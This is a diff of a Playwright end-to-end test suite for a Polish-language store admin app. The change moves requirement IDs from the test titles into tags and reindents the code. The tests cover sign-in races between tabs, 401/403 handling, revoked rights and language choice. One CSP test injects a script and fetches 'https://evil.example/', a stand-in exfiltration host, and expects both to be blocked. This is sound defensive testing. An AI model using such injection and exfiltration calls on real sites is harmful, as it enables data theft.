-    await expect(tab.getByRole('link', { name: 'Stores', exact: true })).toHaveCount(0);
-  }
-  await other.close();
+test(
+  'a sign-in that comes back where somebody else has signed in meanwhile is of whoever finished it, and one that is overtaken gives way',
+  { tag: ['@AUTH-25', '@A24'] },
+  async ({ page, context }) => {
+    const mine = page.getByRole('button', { name: 'Account: Łucja Dąbrowska' });
+    await page.goto(`${urls.adminUrl}/login`);
+    await page.getByRole('button', { name: 'Log In' }).click();
+    await expect(page.locator('button[value="staff-2"]')).toBeVisible();
+    const other = await context.newPage();
+    await openAs(other, 'admin', `${urls.adminUrl}/store`);
+    await expect(other.getByRole('button', { name: 'Account: Anna Wójcik' })).toBeVisible();
+    await page.locator('button[value="staff-2"]').click();
+    for (const tab of [page, other]) {
+      await expect(tab.getByRole('button', { name: 'Account: Łucja Dąbrowska' })).toBeVisible();
+      await expect(tab).toHaveURL(`${urls.adminUrl}/notification`);
+      await expect(tab.getByRole('link', { name: 'Stores', exact: true })).toHaveCount(0);
+    }
+    await other.close();
 
-  // Overtaken while the login is noted.
-  await page.evaluate(() => localStorage.removeItem('endcap.session'));
-  await page.context().clearCookies();
-  await page.goto(`${urls.adminUrl}/login`);
-  let note = (): void => {};
-  const held = new Promise<void>((resolve) => (note = resolve));
-  await page.route('**/session/register-login', async (route) => {
-    await held;
-    await route.continue();
-  });
-  await page.getByRole('button', { name: 'Log In' }).click();
-  const noted = page.waitForRequest('**/session/register-login');
-  await page.locator('button[value="staff-2"]').click();
-  await noted;
-  const overtaking = await context.newPage();
-  await openAs(overtaking, 'admin');
-  note();
-  await expect(page.getByRole('button', { name: 'Account: Anna Wójcik' })).toBeVisible();
-  await expect(page).not.toHaveURL(/login/);
-  await expect(mine).toHaveCount(0);
-});
+    // Overtaken while the login is noted.
+    await page.evaluate(() => localStorage.removeItem('endcap.session'));
+    await page.context().clearCookies();
+    await page.goto(`${urls.adminUrl}/login`);
+    let note = (): void => {};
+    const held = new Promise<void>((resolve) => (note = resolve));
+    await page.route('**/session/register-login', async (route) => {
+      await held;
+      await route.continue();
+    });
+    await page.getByRole('button', { name: 'Log In' }).click();
+    const noted = page.waitForRequest('**/session/register-login');
+    await page.locator('button[value="staff-2"]').click();
+    await noted;
+    const overtaking = await context.newPage();
+    await openAs(overtaking, 'admin');
+    note();
+    await expect(page.getByRole('button', { name: 'Account: Anna Wójcik' })).toBeVisible();
+    await expect(page).not.toHaveURL(/login/);
+    await expect(mine).toHaveCount(0);
+  },
+);
 
-test('AUTH-14, ROLE-19: 401 ends the session, 403 does not', async ({ page }) => {
+test('401 ends the session, 403 does not', { tag: ['@AUTH-14', '@ROLE-19'] }, async ({ page }) => {
   await signIn(page, 'no-store');
   await expect(page.getByText('Do Twojego konta nie przypisano sklepu')).toBeVisible();
   // Nor does a button lead to a form that cannot send.
@@ -504,7 +535,7 @@ test('AUTH-14, ROLE-19: 401 ends the session, 403 does not', async ({ page }) =>
   await expect(page).toHaveURL(/\/login/);
 });
 
-test('D-19, Z20: whose rights are gone gets the menu and the screens that are left, and is told', async ({ page }) => {
+test('whose rights are gone gets the menu and the screens that are left, and is told', { tag: ['@D-19', '@Z20'] }, async ({ page }) => {
   const become = (facts: object) => fetch(`${urls.issuer}/sandbox/people/former-admin`, { method: 'POST', body: JSON.stringify(facts) });
   await become({ name: 'Ewa Dawna', isAdmin: true });
   await signIn(page, 'former-admin');
@@ -524,31 +555,35 @@ test('D-19, Z20: whose rights are gone gets the menu and the screens that are le
   await expect(page).toHaveURL(/\/notification$/);
 });
 
-test('AUTH-18: a failing register-login does not lock anybody out', async ({ page }) => {
+test('a failing register-login does not lock anybody out', { tag: ['@AUTH-18'] }, async ({ page }) => {
   await page.route('**/session/register-login', (route) => route.fulfill({ status: 500, json: {} }));
   await signIn(page, 'staff-1');
   await expect(page).toHaveURL(/\/notification$/);
 });
 
-test('A25, A27: scripts of others do not run, nothing is sent elsewhere, no frame may hold the page', async ({ page, problems }) => {
-  const { headers } = await fetch(`${urls.adminUrl}/login`);
-  expect(headers.get('content-security-policy')).toMatch(/script-src 'self';.*frame-ancestors 'none'/);
-  await page.goto(`${urls.adminUrl}/login`);
-  const result = await page.evaluate(async () => {
-    const script = document.createElement('script');
-    script.textContent = 'window.__pwned = true';
-    document.body.append(script);
-    const sent = await fetch('https://evil.example/', { mode: 'no-cors' }).then(
-      () => true,
-      () => false,
-    );
-    return { pwned: '__pwned' in window, sent };
-  });
-  expect(result).toEqual({ pwned: false, sent: false });
-  // The refusals themselves are written to the console.
-  expect(problems.every((problem) => /Content Security Policy/.test(problem))).toBe(true);
-  problems.length = 0;
-});
+test(
+  'scripts of others do not run, nothing is sent elsewhere, no frame may hold the page',
+  { tag: ['@A25', '@A27'] },
+  async ({ page, problems }) => {
+    const { headers } = await fetch(`${urls.adminUrl}/login`);
+    expect(headers.get('content-security-policy')).toMatch(/script-src 'self';.*frame-ancestors 'none'/);
+    await page.goto(`${urls.adminUrl}/login`);
+    const result = await page.evaluate(async () => {
+      const script = document.createElement('script');
+      script.textContent = 'window.__pwned = true';
+      document.body.append(script);
+      const sent = await fetch('https://evil.example/', { mode: 'no-cors' }).then(
+        () => true,
+        () => false,
+      );
+      return { pwned: '__pwned' in window, sent };
+    });
+    expect(result).toEqual({ pwned: false, sent: false });
+    // The refusals themselves are written to the console.
+    expect(problems.every((problem) => /Content Security Policy/.test(problem))).toBe(true);
+    problems.length = 0;
+  },
+);
 
 test('npm run token: a token of each demo person opens what the person may', async () => {
   for (const person of ['admin', 'staff-1', 'staff-2', 'no-store']) expect(await tokenOf(person)).toMatch(/^ey/);
@@ -557,28 +592,34 @@ test('npm run token: a token of each demo person opens what the person may', asy
 
 test.describe('before anybody has signed in', () => {
   test.use({ locale: 'de-DE' });
-  test('D-4C: a language is chosen at the sign-in for all that follows; until then it is the first of ours that the browser asks for', async ({
-    page,
-  }) => {
-    await page.addInitScript(() => Object.defineProperty(navigator, 'languages', { get: () => ['de-DE', 'pl-PL', 'en-US'] }));
-    await page.goto(`${urls.adminUrl}/login`);
-    const main = page.getByRole('main');
-    await expect(main.getByRole('button', { name: 'Zaloguj się' })).toBeVisible();
-    await main.getByRole('button', { name: 'English' }).click();
-    await expect(main.getByRole('button', { name: 'Log In' })).toBeVisible();
-    await expect(main.getByRole('button', { name: 'English' })).toHaveAttribute('aria-pressed', 'true');
-    await expect(page.locator('html')).toHaveAttribute('lang', 'en');
-    await signIn(page, 'admin');
-    await expect(page.getByRole('heading', { level: 1 })).toHaveText('Notifications');
-  });
-  test('AUTH-03, ux 4: half of the sign-in is a phone with a notification, and less where there is no room', async ({ page }) => {
-    await speak(page, 'pl');
-    await page.goto(`${urls.adminUrl}/login`);
-    const push = page.getByText('Świeże truskawki −30 %');
-    await expect(push).toBeVisible();
-    await expectPresentable(page, 'login');
-    await page.setViewportSize({ width: 400, height: 800 });
-    await expect(push).toBeHidden();
-    await expect(page.getByRole('button', { name: 'Zaloguj się' })).toBeVisible();
-  });
+  test(
+    'a language is chosen at the sign-in for all that follows; until then it is the first of ours that the browser asks for',
+    { tag: ['@D-4C'] },
+    async ({ page }) => {
+      await page.addInitScript(() => Object.defineProperty(navigator, 'languages', { get: () => ['de-DE', 'pl-PL', 'en-US'] }));
+      await page.goto(`${urls.adminUrl}/login`);
+      const main = page.getByRole('main');
+      await expect(main.getByRole('button', { name: 'Zaloguj się' })).toBeVisible();
+      await main.getByRole('button', { name: 'English' }).click();
+      await expect(main.getByRole('button', { name: 'Log In' })).toBeVisible();
+      await expect(main.getByRole('button', { name: 'English' })).toHaveAttribute('aria-pressed', 'true');
+      await expect(page.locator('html')).toHaveAttribute('lang', 'en');
+      await signIn(page, 'admin');
+      await expect(page.getByRole('heading', { level: 1 })).toHaveText('Notifications');
+    },
+  );
+  test(
+    'half of the sign-in is a phone with a notification, and less where there is no room',
+    { tag: ['@AUTH-03', '@ux-4'] },
+    async ({ page }) => {
+      await speak(page, 'pl');
+      await page.goto(`${urls.adminUrl}/login`);
+      const push = page.getByText('Świeże truskawki −30 %');
+      await expect(push).toBeVisible();
+      await expectPresentable(page, 'login');
+      await page.setViewportSize({ width: 400, height: 800 });
+      await expect(push).toBeHidden();
+      await expect(page.getByRole('button', { name: 'Zaloguj się' })).toBeVisible();
+    },
+  );
 });
